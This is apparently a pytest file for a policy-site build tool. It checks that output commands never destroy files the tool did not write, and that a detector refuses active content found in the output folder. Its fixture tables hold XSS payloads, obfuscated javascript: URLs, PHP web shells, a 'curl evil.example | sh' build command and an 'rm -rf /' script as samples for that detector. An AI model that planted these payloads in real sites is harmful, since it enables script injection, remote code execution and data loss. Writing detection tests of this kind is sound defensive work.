"""`policyctl build`, `bundle --out` and `test --junit` never destroy what they did not write
(engine.site.ownership, engine.commands.outputs).

`--out .` once removed a whole working copy and printed success. Each refused folder is checked
by listing everything below the sandbox (paths and bytes) before and after: exit 2, a message
without a traceback, and not one file changed.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from engine.site import ownership
from support import CORPUS, CliRun, run_cli

AT = "2024-03-01"


@pytest.fixture
def sandbox(tmp_path: Path) -> Path:
    """A repository with a .git, its policies, an authors' guide, and a folder of someone's files."""
    repo = tmp_path / "repo"
    shutil.copytree(CORPUS / "hostile" / "site", repo / "policies")
    (repo / ".git").mkdir()
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / "docs").mkdir()
    (repo / "docs" / "guide.md").write_text("# the authors' guide\n")
    (repo / "README.md").write_text("# readme\n")
    (tmp_path / "foreign" / "sub").mkdir(parents=True)
    (tmp_path / "foreign" / "notes.txt").write_text("mine\n")
    (tmp_path / "foreign" / "sub" / "index.html").write_text("<p>mine</p>\n")
    return tmp_path


def listing(folder: Path) -> dict[str, bytes]:
    found = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            if path.is_symlink():
                found[str(path.relative_to(folder))] = b"<link to> " + os.fsencode(os.readlink(path))
            elif path.is_fifo():
                found[str(path.relative_to(folder))] = b"<named pipe>"  # (reading one would wait for a writer)
            else:
                found[str(path.relative_to(folder))] = b"<dir>" if path.is_dir() else path.read_bytes()
    return found


def build(sandbox: Path, out: str, *extra: str, cwd: Path | None = None) -> CliRun:
    return run_cli(
        "build",
        "--root",
        str(sandbox / "repo" / "policies"),
        "--out",
        out,
        "--at",
        AT,
        *extra,
        cwd=cwd or sandbox / "repo",
    )


def _built_then(change: Callable[[Path], object]) -> Callable[[Path], str]:
    """A folder policyctl built, then changed by ``change``."""

    def make(sandbox: Path) -> str:
        out = sandbox / "built"
        assert build(sandbox, str(out)).code == 0
        change(out)
        return str(out)

    return make


def _foreign_git(sandbox: Path) -> str:
    """Someone's folder holding a .git."""
    (sandbox / "foreign" / ".git").mkdir()
    return str(sandbox / "foreign")


def _git_inside(out: Path) -> None:
    (out / "demo" / ".git").mkdir()
    (out / "demo" / ".git" / "HEAD").write_text("x\n")


# (case, the --out given (a path relative to the repository, or a function making one), words of the reason)
REFUSED: list[tuple[str, str | Callable[[Path], str], str]] = [
    ("the working directory, the repository", ".", "holds the policies folder"),
    ("the repository by its path", lambda s: str(s / "repo"), "holds the policies folder"),
    ("a folder above the repository", "..", "holds the policies folder"),
    ("the policies folder", "policies", "is the policies folder"),
    ("a folder inside the policies folder", "policies/demo", "is inside the policies folder"),
    ("the authors' guide", "docs", "not empty and was not built by policyctl"),
    ("someone's folder", lambda s: str(s / "foreign"), "not empty and was not built by policyctl"),
    ("a folder holding a .git", _foreign_git, "git repository"),
    ("a file", "README.md", "is not a folder"),
    ("a built folder someone put a .git in", _built_then(_git_inside), "git repository (`demo/.git`)"),
    (
        "a built folder holding a policy file",
        _built_then(lambda o: (o / "p.yaml").write_text("kind: x\n")),
        "holds policy sources (`p.yaml`)",
    ),
    ("a damaged record", _built_then(lambda o: (o / ownership.RECORD).write_text("{")), "build record is damaged"),
]


@pytest.mark.parametrize("name,out,reason", REFUSED, ids=[r[0] for r in REFUSED])
def test_a_folder_policyctl_must_not_write_is_refused_and_nothing_changes(
    sandbox: Path, name: str, out: str | Callable[[Path], str], reason: str
) -> None:
    where = out(sandbox) if callable(out) else out
    before = listing(sandbox)
    run = build(sandbox, where)
    assert run.code == 2, run
    assert f"policyctl: error: will not build into `{where}`: " in run.err and reason in run.err, run.err
    assert "nothing was changed" in run.err and "Traceback" not in run.out + run.err
    assert listing(sandbox) == before


def test_a_new_or_empty_folder_is_fine(sandbox: Path) -> None:
    (sandbox / "empty").mkdir()
    for out in (sandbox / "empty", sandbox / "new" / "site"):
        assert build(sandbox, str(out)).code == 0
        assert (out / ownership.RECORD).is_file()


def test_files_of_others_stay_and_files_no_longer_produced_go(sandbox: Path) -> None:
    out = sandbox / "built"
    assert build(sandbox, str(out)).code == 0
    (out / "mine.txt").write_text("mine\n")
    (out / "demo" / "extra").mkdir(parents=True, exist_ok=True)
    (out / "demo" / "extra" / "notes.md").write_text("notes\n")
    pages = sorted(p.relative_to(out).as_posix() for p in out.rglob("help.html"))
    template = sandbox / "repo" / "policies" / "demo" / "pages" / "help.md.j2"
    shutil.copy(template, template.with_name("other.md.j2"))
    assert build(sandbox, str(out)).code == 0
    other = next(out.rglob("other.md"))
    other.write_text(other.read_text() + "edited by hand\n")  # policyctl's once; someone's work now
    template.with_name("other.md.j2").unlink()
    run = build(sandbox, str(out))
    assert run.code == 0, run
    assert "note: left alone, not written by policyctl:" in run.err and "mine.txt" in run.err
    assert (out / "mine.txt").read_text() == "mine\n" and (out / "demo/extra/notes.md").read_text() == "notes\n"
    assert other.exists() and not list(out.rglob("other.html"))  # the untouched page is removed
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("help.html")) == pages
    record = json.loads((out / ownership.RECORD).read_text())["files"]
    assert "mine.txt" not in record and other.relative_to(out).as_posix() not in record
    check = build(sandbox, str(out), "--check")
    assert check.code == 0 and "left alone" in check.err, check  # a note, not a leftover


def test_a_file_of_someone_else_where_a_page_goes_is_not_replaced(sandbox: Path) -> None:
    out = sandbox / "built"
    assert build(sandbox, str(out)).code == 0
    record = json.loads((out / ownership.RECORD).read_text())
    del record["files"]["index.md"]
    (out / ownership.RECORD).write_text(json.dumps(record))
    (out / "index.md").write_text("my own index\n")
    run = build(sandbox, str(out))
    assert run.code == 2 and "index.md` is there, policyctl did not write it" in run.err, run
    assert (out / "index.md").read_text() == "my own index\n"


@pytest.mark.parametrize("linked", ["demo", "demo/us/it"])
def test_a_folder_in_the_output_that_is_a_link_is_never_written_through(sandbox: Path, linked: str) -> None:
    """The output folder arrives with the pull request: a folder in it committed as a symbolic
    link to a folder elsewhere made the next build write its pages there (the link was left alone
    as someone's file, and the pages renamed into place through it)."""
    out = sandbox / "built"
    assert build(sandbox, str(out)).code == 0
    elsewhere = sandbox / "foreign" / "sub"
    before = listing(sandbox / "foreign")
    shutil.rmtree(out / linked)
    (out / linked).symlink_to(elsewhere, target_is_directory=True)
    run = build(sandbox, str(out))
    assert (
        run.code == 2 and f"`{out / linked}` is a symbolic link, and the build would write pages through it" in run.err
    )
    assert listing(sandbox / "foreign") == before
    shutil.rmtree(out)
    assert build(sandbox, str(out)).code == 0


def test_a_record_naming_paths_outside_the_folder_is_not_trusted(sandbox: Path) -> None:
    out = sandbox / "built"
    assert build(sandbox, str(out)).code == 0
    victim = sandbox / "foreign" / "notes.txt"
    record = json.loads((out / ownership.RECORD).read_text())
    record["files"]["../foreign/notes.txt"] = ownership.digest(victim.read_bytes())
    record["files"]["/etc/passwd"] = "0" * 64
    (out / ownership.RECORD).write_text(json.dumps(record))
    read = ownership.read(str(out))
    assert read is not None and not read.listed("../foreign/notes.txt")
    assert build(sandbox, str(out)).code == 0
    assert victim.read_text() == "mine\n"


def test_junit_never_overwrites_a_source_a_folder_or_another_file(sandbox: Path) -> None:
    shutil.copytree(CORPUS / "repos" / "mini", sandbox / "mini")
    root = str(sandbox / "mini")
    program = sandbox / "mini" / "loans" / "program.yaml"
    before = listing(sandbox)
    for target, reason in (
        (str(program), "inside the policies folder"),
        (str(sandbox / "foreign"), ""),
        (str(sandbox / "repo" / "README.md"), "is not a JUnit report"),
        (str(sandbox / "x.yaml"), "named like a policy source"),
    ):
        run = run_cli("test", "--root", root, "--junit", target)
        assert run.code == 2 and reason in run.err and "Traceback" not in run.err, (target, run)
    assert listing(sandbox) == before
    report = sandbox / "report.xml"
    for _ in range(2):  # a JUnit report of its own is replaced
        run = run_cli("test", "--root", root, "--junit", str(report))
        assert "<testsuites" in report.read_text(), run


# (command line writing FILE, what it writes) into the `mini` repository copied into the sandbox
WRITERS: dict[str, tuple[Callable[[str, str], list[str]], bytes]] = {
    "bundle --out": (lambda root, file: ["bundle", "--root", root, "--out", file], b'{"bundle":"policyctl"'),
    "test --junit": (lambda root, file: ["test", "--root", root, "--junit", file], b"<testsuites"),
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_file_written_whole_never_replaces_what_policyctl_did_not_write(sandbox: Path, writer: str) -> None:
    """Written beside its name and renamed into place, such a file would replace whatever is at its
    name: so a source, a folder, someone's file, a named pipe or a link (its target untouched, the
    link gone) is refused with exit 2 and nothing changes; a new name, or the command's own file of
    a previous run, is written."""
    command, head = WRITERS[writer]
    shutil.copytree(CORPUS / "repos" / "mini", sandbox / "mini")
    root = str(sandbox / "mini")
    os.mkfifo(sandbox / "pipe")
    (sandbox / "link").symlink_to(sandbox / "foreign" / "notes.txt")
    before = listing(sandbox)
    for target, reason in (
        (sandbox / "mini" / "loans" / "program.yaml", "is inside the policies folder"),
        (sandbox / "mini" / "new-file", "is inside the policies folder"),
        (sandbox / "foreign", "is a folder"),
        (sandbox / "repo" / "README.md", "exists and is not a"),
        (sandbox / "x.yaml", "is named like a policy source"),
        (sandbox / "pipe", "is not a regular file"),
        (sandbox / "link", "is a symbolic link"),
    ):
        run = run_cli(*command(root, str(target)))
        assert run.code == 2 and reason in run.err and "Traceback" not in run.err, (target, run)
    assert listing(sandbox) == before
    assert (sandbox / "pipe").is_fifo() and (sandbox / "link").is_symlink()
    out = sandbox / "written"
    for _ in range(2):  # a new name, then the file it wrote
        run = run_cli(*command(root, str(out)))
        assert run.code == 0 and head in out.read_bytes()[:512], run


def test_decide_output_never_replaces_what_decide_did_not_write(sandbox: Path) -> None:
    """`decide --input T --output FILE` wrote over any .jsonl or .parquet: someone's data (the
    input itself), a link, a pipe, a file in the policies folder. Its own output of an earlier run
    is written over."""
    pytest.importorskip("pyarrow")
    import pyarrow as pa
    import pyarrow.parquet as pq

    shutil.copytree(CORPUS / "repos" / "mini", sandbox / "mini")
    root = str(sandbox / "mini")
    rows = sandbox / "rows.csv"
    rows.write_text("days_late\n3\n", encoding="utf-8")
    data = sandbox / "data.parquet"
    pq.write_table(pa.table({"days_late": [3]}), data)
    (sandbox / "data.jsonl").write_text('{"days_late": 3}\n', encoding="utf-8")
    os.mkfifo(sandbox / "pipe.jsonl")
    (sandbox / "link.jsonl").symlink_to(sandbox / "foreign" / "notes.txt")

    def decide(source: Path, out: Path) -> CliRun:
        return run_cli(
            "decide", "loans.late_fee", "-m", "no", "--at", AT, "--root", root, "--input", str(source), "--output", str(out)
        )  # fmt: skip

    before = listing(sandbox)
    for source, target, reason in (
        (rows, sandbox / "data.jsonl", "exists and is not an output of `decide` (jsonl)"),
        (data, data, "exists and is not an output of `decide` (parquet)"),
        (rows, sandbox / "pipe.jsonl", "is not a regular file"),
        (rows, sandbox / "link.jsonl", "is a symbolic link"),
        (rows, sandbox / "mini" / "loans" / "answers.jsonl", "is inside the policies folder"),
    ):
        run = decide(source, target)
        assert run.code == 2 and reason in run.err and "Traceback" not in run.err, (target, run)
    assert listing(sandbox) == before
    for name in ("answers.jsonl", "answers.parquet"):
        for _ in range(2):  # a new file, then its own output of the run before
            assert decide(rows, sandbox / name).code == 0


# Files a pull request commits into the output folder: (path, bytes, where G010 is found or None
# for a passive file). The search pages may run scripts from the site itself, so none may be there.
PASSIVE_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><linearGradient id="g"/>'
    b'<path fill="url(#g)" d="M0 0h8v8z"/></svg>\n'
)
FOREIGN = [
    ("_search/extra.js", b"alert(document.cookie)\n", (1, 1)),
    ("x.mjs", b"export {}\n", (1, 1)),
    ("returns/search.wasm", b"\0asm\1\0\0\0", (1, 1)),
    ("evil.html", b"<!doctype html>\n<p>hi</p><script>alert(1)</script>\n", (2, 10)),
    ("returns/us/en/old.htm", b"<p>\n<img src=x onerror=alert(1)>\n", (2, 1)),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg">\n <script>alert(1)</script></svg>\n', (2, 3)),
    ("icon.svg", b'<svg><a href="&#106;avascript:alert(1)"><rect/></a></svg>', (1, 9)),
    ("feed.xml", b'<?xml version="1.0"?>\n<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>', (2, 4)),
    ("latin1.html", b"<p>caf\xe9</p>", (1, 1)),
    ("returns/about", b"\xef\xbb\xbf\n <!doctype html>\n<p>hi</p><script>alert(1)</script>\n", (3, 10)),
    ("deploy", b"#!/bin/sh\necho hi\n", (1, 1)),
    ("google1234abcd.html", b"google-site-verification: google1234abcd.html", None),
    ("plain.svg", PASSIVE_SVG, None),
    ("linked.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com/"><rect/></a></svg>', None),
    ("notes.txt", b"<script>alert(1)</script>\n", None),
    ("CNAME", b"help.example.com\n", None),
    (".htaccess", b"AddType text/html .txt\n", (1, 1)),
    ("returns/_headers", b"/notes.txt\n  Content-Type: text/html\n", (1, 1)),
    ("shell.php.png", b"\x89PNG<?php system($_GET['c']); ?>", (1, 1)),
    ("page.bar", b"\n<p>hi</p><script>alert(1)</script>\n", (2, 10)),
    ("page.html.v2", b"hello\n<script>alert(1)</script>\n", (2, 1)),
    ("notes.v2.txt", b"<script>alert(1)</script>\n", None),
]


@pytest.mark.parametrize("rel,data,where", FOREIGN, ids=[f[0] for f in FOREIGN])
def test_a_file_of_others_a_browser_would_run_fails_the_check_and_the_build(
    init_repo: Path, rel: str, data: bytes, where: tuple[int, int] | None
) -> None:
    out = init_repo / "generated_docs"
    (out / rel).parent.mkdir(parents=True, exist_ok=True)
    (out / rel).write_bytes(data)
    before = listing(out)
    check = run_cli("build", "--check", "--root", str(init_repo / "policies"), "--out", str(out))
    if where is None:
        assert check.code == 0 and "G010" not in check.out + check.err, check
        return
    line, col = where
    assert check.code == 1, check
    assert f"{out}/{rel}:{line}:{col}: error[G010]: " in check.err, check
    assert "policyctl did not write it\n  hint: remove it from the output folder" in check.err, check
    run = run_cli("build", "--root", str(init_repo / "policies"), "--out", str(out))
    assert run.code == 1 and f"{out}/{rel}:{line}:{col}: error[G010]" in run.err, run
    assert listing(out) == before


def test_a_link_of_others_named_as_a_script_fails_the_check(init_repo: Path) -> None:
    """A link is never read (it may point anywhere): named as a script or a page, it is refused
    unread; a link to a folder is refused (a web server, or a Pages upload, may follow it)."""
    out = init_repo / "generated_docs"
    (out / "returns" / "app.js").symlink_to(init_repo / "README.md")
    (out / "page.html").symlink_to(init_repo / "README.md")
    (out / "lib").symlink_to(init_repo / "policies", target_is_directory=True)
    (out / "notes.txt").symlink_to(init_repo / "README.md")  # (served as text: passive)
    check = run_cli("build", "--check", "--root", str(init_repo / "policies"), "--out", str(out))
    assert check.code == 1, check
    assert f"{out}/page.html:1:1: error[G010]: a document a browser may run, which policyctl cannot read" in check.err
    assert f"{out}/returns/app.js:1:1: error[G010]: a script or other code a browser runs" in check.err
    assert f"{out}/lib:1:1: error[G010]: a link to a folder, whose scripts would be served" in check.err
    assert check.err.count("error[G010]") == 3 and "notes.txt:" not in check.err, check


def test_only_files_that_may_hold_markup_are_read_for_the_check(
    init_repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A build sorts the files in its output folder and checks those of others each time: an image
    or a text file the build record does not list is never read for it (each was read whole on
    every build, to learn whether policyctl wrote it, and again for G010), an HTML or SVG file is
    (G010); of a file without a name extension, only its first bytes, unless they open markup."""
    from engine.site import disk

    out = init_repo / "generated_docs"
    for rel in ("logo.png", "notes.txt", "plain.svg", "extra.html", "about"):
        (out / rel).write_bytes(PASSIVE_SVG if rel.endswith(".svg") else b"<p>hello</p>\n")
    (out / "CNAME").write_bytes(b"help.example.com\n")
    read: list[tuple[str, int]] = []
    real = disk.read_file

    def reading(folder: str, rel: str, limit: int = -1) -> bytes | None:
        read.append((rel, limit))
        return real(folder, rel, limit)

    monkeypatch.setattr(disk, "read_file", reading)
    check = run_cli("build", "--check", "--root", str(init_repo / "policies"), "--out", str(out))
    assert check.code == 0 and "G010" not in check.err, check
    whole = 16 * 1024 * 1024 + 1
    assert {("extra.html", whole), ("plain.svg", whole), ("about", 1445), ("about", whole)} <= set(read), read
    assert [limit for rel, limit in read if rel == "CNAME"] == [1445], read
    assert not {"logo.png", "notes.txt"} & {rel for rel, _ in read}, read


def test_a_check_reports_the_stale_pages_beside_a_file_a_browser_would_run(init_repo: Path) -> None:
    """G010 hid G005: an author who removed the script met the stale pages only on the next run.
    `--check` reports both at once (text and JSON); `build` still writes nothing beside a G010."""
    out = init_repo / "generated_docs"
    (out / "app.js").write_bytes(b"alert(1)\n")
    (out / "index.html").unlink()
    args = ("build", "--check", "--root", str(init_repo / "policies"), "--out", str(out))
    check = run_cli(*args)
    assert check.code == 1, check
    assert f"{out}/app.js:1:1: error[G010]: a script or other code a browser runs" in check.err, check
    assert f"{out}/index.html:1:1: error[G005]: missing: the sources produce this file" in check.err, check
    assert "was not compared" not in check.err, check
    as_json = run_cli(*args, "--format", "json")
    assert as_json.code == 1, as_json
    found = [(p["file"], p["code"]) for p in json.loads(as_json.out)["problems"]]
    assert found == [(f"{out}/app.js", "G010"), (f"{out}/index.html", "G005")], found
    before = listing(out)
    run = run_cli("build", "--root", str(init_repo / "policies"), "--out", str(out))
    assert run.code == 1 and "error[G010]" in run.err and "nothing was written to" in run.err, run
    assert "G005" not in run.err and listing(out) == before, run


# Files of others that a web server, not a browser, would run or read as its own configuration, or
# whose name gives no type a server surely knows: (the file's name, its bytes, what is found or None
# for a passive file, the reads `runnable` makes: the limits asked for, in order). A web server's
# configuration and code it runs are refused by their names alone, unread; a known passive type is
# never read; an unknown extension is sniffed as a file without one (its first 1,445 bytes).
WHOLE = 16 * 1024 * 1024 + 1
SERVED: list[tuple[str, bytes, str | None, list[int]]] = [
    (".htaccess", b"AddType text/html .txt\n", "Apache's configuration of its folder", []),
    (".HTACCESS", b"AddHandler cgi-script .txt\n", "Apache's configuration of its folder", []),
    ("returns/.htaccess", b"<Files notes.txt>\nSetHandler cgi-script\n</Files>\n", "Apache's configuration", []),
    (".user.ini", b"auto_prepend_file=notes.txt\n", "PHP's configuration of its folder", []),
    ("_headers", b"/notes.txt\n  Content-Type: text/html\n", "the headers Netlify and Cloudflare Pages serve", []),
    ("_redirects", b"/* https://evil.example/:splat 200\n", "Netlify's and Cloudflare Pages' redirects", []),
    ("netlify.toml", b'[build]\ncommand = "curl evil.example | sh"\n', "Netlify's configuration", []),
    ("vercel.json", b'{"headers": []}', "Vercel's configuration", []),
    ("Web.config", b"<configuration/>", "IIS's and Azure App Service's configuration", []),
    ("index.php", b"<?php system($_GET['c']);", "a `.php` file, code a web server set up for it runs", []),
    ("x.phtml", b"<?= 1 ?>", "a `.phtml` file", []),
    ("cgi-bin/run.cgi", b"echo hi", "a `.cgi` file", []),
    ("tool.pl", b"print 1;", "a `.pl` file", []),
    ("tool.py", b"print(1)", "a `.py` file", []),
    ("default.asp", b"<% x %>", "a `.asp` file", []),
    ("page.aspx", b"<% x %>", "a `.aspx` file", []),
    ("page.jsp", b"<% x %>", "a `.jsp` file", []),
    ("ssi.shtml", b'<!--#exec cmd="id" -->', "a `.shtml` file", []),
    ("report.PHP.png", b"\x89PNG", "a `.php` file", []),  # (Apache's AddHandler: any extension)
    (".php", b"<?php 1;", "a `.php` file", []),
    ("logo.png", b"<script>alert(1)</script>", None, []),
    ("font.woff2", b"<script>alert(1)</script>", None, []),
    ("data.json", b"<script>alert(1)</script>", None, []),
    ("notes.html.txt", b"<script>alert(1)</script>", None, []),  # (Apache: the last type it knows, text)
    ("foo.bar", b"plain text\n", None, [1445]),
    ("foo.bar", b"<p>hello</p>", None, [1445, WHOLE]),
    (
        "foo.bar",
        b"<p><img src=x onerror=alert(1)></p>",
        "an event handler `onerror`, in a file whose name extension `.bar`",
        [1445, WHOLE],
    ),
    ("foo.bar", b"#!/bin/sh\n", "a script to run as a program", [1445]),
    ("app.js.map", b"{}", "a script or other code a browser runs, in a file Apache serves as `.js`", []),
    (
        "page.html.v2",
        b"hi <script>alert(1)</script>",
        "a `<script>` element, in a file Apache serves as `.html`",
        [WHOLE],
    ),
    ("page.html.v2", b"hi <p>there</p>", None, [WHOLE, 1445]),
]


@pytest.mark.parametrize("name,data,found,reads", SERVED, ids=[f"{n}-{i}" for i, (n, _, _, _) in enumerate(SERVED)])
def test_what_a_web_server_runs_or_reads_as_configuration_is_refused_by_name_unread(
    name: str, data: bytes, found: str | None, reads: list[int]
) -> None:
    """An `.htaccess` (`AddType text/html .txt`), a `_headers` file, an `index.php` or a page named
    `foo.bar` in the output folder passed G010: only scripts, WebAssembly, HTML, SVG and XML by
    name, and files without a name extension by their first bytes, were refused."""
    from engine.site.activecontent import runnable

    asked: list[int] = []

    def read(limit: int) -> bytes:
        asked.append(limit)
        return data[:limit]

    got = runnable(name, read)
    assert asked == reads, asked
    if found is None:
        assert got is None, got
        return
    assert got is not None and got[2].startswith(found), got


def test_policyctl_writes_no_name_it_refuses_as_a_web_servers(built_site: Path) -> None:
    """G010 checks only files of others; and no file a build writes is named as a web server's
    configuration or code, nor, but its scripts and search pages, would be refused as a file of
    others (its feeds, Markdown pages and search index files, sniffed or read, are passive)."""
    from engine.site.activecontent import SERVER_CONFIGURATION, runnable

    files = [p for p in built_site.rglob("*") if p.is_file()]
    assert not {p.name.lower() for p in files} & set(SERVER_CONFIGURATION), files

    def found(path: Path) -> tuple[int, int, str] | None:
        return runnable(path.name, lambda limit: path.read_bytes()[:limit])

    own = [p for p in files if p.suffix not in (".js", ".wasm") and p.parent.name != "search"]
    assert {p.suffix for p in own} >= {".md", ".atom", ".html", ".pf_meta"}, own
    assert [p for p in own if found(p) is not None] == []


# An SVG or XML file of others, read as `runnable` reads it: (its body after an `<svg>` start tag,
# the column of the finding on its one line and what it says, or None for a passive file). A link
# is not active content; what can run a script, or load something from elsewhere, is.
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
SVG_BODIES: list[tuple[str, tuple[int, str] | None]] = [
    ('<a href="https://example.com/"><rect/></a>', None),
    ('<a xlink:href="https://example.com/?a=1&amp;b=2" target="_blank"><text>x</text></a>', None),
    ('<a href="//example.com/"/><a href="other.html#top"/>', None),
    ('<image href="logo.png"/><use xlink:href="#shape"/><use href="icons.svg#a"/>', None),
    ('<style>.a{fill:url(#g)}</style><rect class="a" style="fill:url( #g )" fill="url(\'#g\')"/>', None),
    ("<text>javascript:alert(1) &amp; &#60;script&#62; as text</text>", None),
    ('<a href="javascript:alert(1)"/>', (4, "a `javascript:` URL in `href`")),
    ('<a href="JaVaScRiPt:alert(1)"/>', (4, "a `javascript:` URL in `href`")),
    ('<a href="&#106;avascript:alert(1)"/>', (4, "a `javascript:` URL in `href`")),
    ('<a href="&#x4A;ava&#x53;cript&#58;alert(1)"/>', (4, "a `javascript:` URL in `href`")),
    ('<a href=" \t&#10;java&#9;script:alert(1)"/>', (4, "a `javascript:` URL in `href`")),
    ("<a xlink:href='vbscript:x'/>", (4, "a `vbscript:` URL in `xlink:href`")),
    ('<a xlink:href="data:text/html,&lt;script&gt;"/>', (4, "a `data:` URL in `xlink:href`")),
    ('<use href="data:image/svg+xml;base64,PHN2Zy8+"/>', (6, "a `data:` URL in `href`")),
    ('<a href="&bogus;javascript:alert(1)"/>', (4, "an entity reference other than XML's own in `href`")),
    ('<a><set attributeName="href" to="javascript:alert(1)"/></a>', (9, "an animation of `href`")),
    ('<a><animate attributeName="xlink:href" values="#a;#b"/></a>', (13, "an animation of `xlink:href`")),
    ('<a href="#a"><animate values="#a;javascript:alert(1)"/></a>', (23, "a `javascript:` URL in `values`")),
    ('<rect onclick="alert(1)"/>', (7, "an event handler `onclick`")),
    ('<rect ev:OnLoad="alert(1)"/>', (7, "an event handler `ev:OnLoad`")),
    ("<script>alert(1)</script>", (2, "a `<script>` element")),
    ('<s:Script xmlns:s="http://www.w3.org/2000/svg"/>', (4, "a `<s:Script>` element")),
    ("<foreignObject><p>x</p></foreignObject>", (2, "a `<foreignObject>` element")),
    ('<g xmlns:h="http://www.w3.org/1999/xhtml"><h:p>x</h:p></g>', (4, "the XHTML namespace")),
    ('<a href="x" xml:base="javascript:/"/>', (13, "an `xml:base`")),
    ('<image href="https://tracker.example/pixel.png"/>', (8, "a resource from elsewhere in `href`")),
    ('<rect fill="url(https://example.com/p.svg#g)"/>', (7, "a style that loads a resource")),
    ('<rect style="fill:u\\72l(x)"/>', (7, "a style that loads a resource")),
    ("<style>@import url(https://example.com/a.css);</style>", (8, "a style sheet that loads a resource")),
    ("<style>.a{fill:u&#114;l(https://example.com/p.png)}</style>", (8, "a style sheet that loads a resource")),
    ("<style>@im<!-- -->port 'https://example.com/a.css';</style>", (8, "a style sheet that loads a resource")),
    ("<style>.a{fill:u<!---->rl(https://example.com/p.png)}</style>", (8, "a style sheet that loads a resource")),
    ("<style>@im<g/>port url(https://example.com/a.css);</style>", (12, "a `<g>` inside a style sheet")),
    ('<a href="https://example.com/" ping="https://tracker.example/"/>', (32, "a resource from elsewhere in `ping`")),
    ('<set attributeName="onclick" to="alert(1)"/>', (6, "an animation of `onclick`")),
    ('<a href="&#' + "0" * 5000 + '106;avascript:alert(1)"/>', (4, "an entity reference other than XML's own")),
    ("<![CDATA[<script>alert(1)</script>]]>", (1, "markup that is not plain XML")),
    ('<?xml-stylesheet href="x.xsl" type="text/xsl"?>', (1, "markup that is not plain XML")),
    ("<p>1 < 2</p>", (6, "markup that is not plain XML")),
    # (the whole document's tags are first asked together, `_xml_plainly_passive`: what it must not miss)
    ('<rect title="x href=" href="javascript:1"/>', (23, "a `javascript:` URL in `href`")),
    ('<g a="1"/><Image HREF="http://example.com/x.png"/>', (18, "a resource from elsewhere in `HREF`")),
    ('<image bac\u212aground="data:x"/>', (8, "a `data:` URL in `bac\u212aground`")),
    ('<g title="on=1"/><g x:OnClick="1"/>', (21, "an event handler `x:OnClick`")),
    ('<g fill="\u017frc(x)"/>', (4, "a style that loads a resource")),
]


@pytest.mark.parametrize("body,found", SVG_BODIES, ids=[b[:60] for b, _ in SVG_BODIES])
def test_only_what_can_run_or_load_makes_an_svg_active(body: str, found: tuple[int, str] | None) -> None:
    """An SVG of others with a plain `<a href="https://...">` was refused as active content (every
    `href` was); what can run a script or load something from elsewhere still is, however spelt."""
    from engine.site.activecontent import runnable

    got = runnable("logo.svg", lambda limit: (SVG_OPEN + body + "</svg>\n").encode()[:limit])
    if found is None:
        assert got is None, got
        return
    assert got is not None, body
    col, what = found
    assert got[:2] == (1, len(SVG_OPEN) + col) and got[2].startswith(what), got
    assert got[2].endswith(" in an SVG or XML document"), got


# A file of others without a name extension, as `runnable` reads it: (its name, its bytes or None
# when it cannot be read, where and what is found or None for a passive file). Its first bytes say
# what a browser (or a web server) takes it for: markup is read as a page, `#!` and WebAssembly are
# code, text and binary data are passive.
NO_EXTENSION: list[tuple[str, bytes | None, tuple[int, int, str] | None]] = [
    ("CNAME", b"help.example.com\n", None),
    (".nojekyll", b"", None),
    ("LICENSE", b"Copyright (c) Jo <jo@example.com>\n<script>alert(1)</script>\n", None),
    ("logo", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR<script>", None),
    ("about", b"<!doctype html>\n<title>About</title><p>Hello.</p>\n", None),
    ("drawing", b'<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com/"><rect/></a></svg>', None),
    ("evil", b"<!doctype html>\n<script>alert(1)</script>", (2, 1, "a `<script>` element")),
    ("Page", b"\xef\xbb\xbf \t\r\n\x0c<HTML><body onload=alert(1)>", (2, 8, "an event handler `onload`")),
    ("page.", b"<p><img src=x onerror=alert(1)>", (1, 4, "an event handler `onerror`")),
    ("frag", b"<!-- x --><p>x</p>", (1, 1, "a comment, CDATA section or processing instruction")),
    ("feed", b'<?xml version="1.0"?>\n<svg><script>alert(1)</script></svg>', (2, 7, "a `<script>` element")),
    ("icon", b"<!DOCTYPE svg>\n<svg><a href='JaVaScRiPt:alert(1)'/></svg>", (2, 9, "a `javascript:` URL in `href`")),
    (
        "drawn",
        b'<svg>\n<g\n a="1"\n/><image href="https://example.com/x.png"/></svg>',
        (4, 10, "a resource from elsewhere"),
    ),
    ("deploy", b"#!/bin/sh\nrm -rf /\n", (1, 1, "a script to run as a program (`#!`)")),
    ("module", b"\0asm\1\0\0\0", (1, 1, "WebAssembly (by its first bytes)")),
    ("latin", b"<p>caf\xe9</p>", (1, 1, "a document a browser may run, not in UTF-8")),
    ("linked", None, (1, 1, "a file without a name extension, which a browser may take for a page, and policyctl")),
]


@pytest.mark.parametrize("name,data,found", NO_EXTENSION, ids=[n for n, _, _ in NO_EXTENSION])
def test_a_file_without_an_extension_is_checked_for_what_its_first_bytes_say(
    name: str, data: bytes | None, found: tuple[int, int, str] | None
) -> None:
    """A file of others without a name extension was never checked: a page or a `#!` script
    committed as `returns/about` or `deploy` passed G010, whatever it held."""
    from engine.site.activecontent import runnable

    got = runnable(f"returns/{name}", lambda limit: None if data is None else data[:limit])
    if found is None:
        assert got is None, got
        return
    assert got is not None and got[:2] == found[:2] and got[2].startswith(found[2]), got
